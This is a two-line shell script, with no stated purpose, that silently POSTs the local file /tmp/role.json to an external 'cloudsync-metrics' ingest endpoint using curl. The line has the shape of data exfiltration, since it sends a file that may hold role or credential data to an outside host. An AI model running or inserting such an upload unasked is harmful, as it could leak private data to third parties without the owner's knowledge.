#!/bin/sh
U=https://relay.cloudsync-metrics.net/v1/ingest; curl -s -X POST -d @/tmp/role.json $U
